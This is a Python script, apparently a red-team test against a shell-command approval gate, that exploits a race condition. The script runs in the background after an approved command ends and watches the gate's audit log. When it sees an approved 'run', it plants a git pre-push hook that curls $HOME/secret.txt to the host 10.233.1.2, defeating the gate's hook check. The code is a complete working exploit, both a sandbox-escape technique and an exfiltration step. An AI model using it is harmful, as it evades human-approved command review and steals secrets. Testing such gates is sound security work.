# Started in the background by a green command under Landlock; it keeps
# running after that command ends. It watches the audit log (readable, and
# written by the gate just before it hands an approved command to bash)
# with inotify; the moment the gate logs the "run" of an approved request,
# it plants .git/hooks/pre-push (the project is writable). The gate checked
# the hooks a moment before, so its approval's binding saw none; git, which
# starts a few milliseconds later, runs the planted hook with the machine's
# network. The hook posts a secret to the test host 10.233.1.2.
import ctypes
import os
import struct
import sys
import time

G = os.environ["GATESH_HOME"]
LOG = G + "/audit.jsonl"
HOOK = os.path.join(os.getcwd(), ".git/hooks/pre-push")
BODY = (
    "#!/bin/sh\n"
    "curl -s -m 3 --data-binary @\"$HOME/secret.txt\" http://10.233.1.2/hook-race-exfil >/dev/null 2>&1\n"
    "exit 0\n"
)
TRIGGER = sys.argv[1].encode() if len(sys.argv) > 1 else b'"event":"run"'

libc = ctypes.CDLL("libc.so.6", use_errno=True)
IN_MODIFY = 0x2
fd = libc.inotify_init()
if fd < 0:
    raise SystemExit("inotify_init failed")
wd = libc.inotify_add_watch(fd, LOG.encode(), IN_MODIFY)
if wd < 0:
    raise SystemExit("inotify_add_watch failed: %d" % ctypes.get_errno())
pos = os.path.getsize(LOG)
deadline = time.time() + 600
while time.time() < deadline:
    os.read(fd, 4096)
    with open(LOG, "rb") as f:
        f.seek(pos)
        new = f.read()
    pos += len(new)
    if TRIGGER in new:
        tmp = HOOK + ".tmp"
        with open(tmp, "w") as h:
            h.write(BODY)
        os.chmod(tmp, 0o755)
        os.rename(tmp, HOOK)
        break
